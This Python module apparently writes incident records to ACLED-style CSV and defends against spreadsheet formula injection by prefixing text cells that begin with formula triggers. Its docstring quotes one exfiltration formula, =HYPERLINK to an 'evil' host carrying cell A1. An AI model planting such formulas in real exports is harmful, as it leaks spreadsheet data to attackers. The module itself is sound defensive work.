"""ACLED-style CSV, safe to open in a spreadsheet.

Formula injection: report text is untrusted, and Excel, LibreOffice and Google Sheets run
a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before
one) as a formula, e.g. ``=HYPERLINK("http://evil/?"&A1, "click")``. Following the OWASP
"CSV Injection" advice, every *text* cell whose first non-blank character is one of
those (or their full-width forms, which some spreadsheets normalise) gets a leading
apostrophe: spreadsheets then show the text as typed and hide the apostrophe, and a
program reading the CSV can strip it. Numbers we format ourselves are never touched, so
a longitude of -77.03 stays a number.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import TextIO

from eventwire.export.acled import COLUMNS, Cell, acled_row
from eventwire.model import Incident

FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")


def neutralise(text: str) -> str:
    """``text`` with a leading apostrophe if a spreadsheet would read it as a formula."""
    stripped = text.lstrip(" \t\r\n")
    if text and (text[0] in FORMULA_TRIGGERS or (stripped and stripped[0] in FORMULA_TRIGGERS)):
        return "'" + text
    return text


def _cell(value: Cell) -> str:
    if value is None:
        return ""  # CSV has no null; empty means "not known", never 0
    if isinstance(value, str):
        return neutralise(value)
    return str(value)


def write_csv(
    incidents: Iterable[Incident],
    out: TextIO,
    *,
    country_names: Mapping[str, str] | None = None,
) -> int:
    """Write a header and one row per incident; returns the number of rows.

    Open ``out`` with ``newline=""``: rows end in CRLF as RFC 4180 asks, and cells with
    line breaks are quoted.
    """
    writer = csv.writer(out)
    writer.writerow(COLUMNS)
    n = 0
    for incident in incidents:
        row = acled_row(incident, country_names)
        writer.writerow([_cell(row[c]) for c in COLUMNS])
        n += 1
    return n
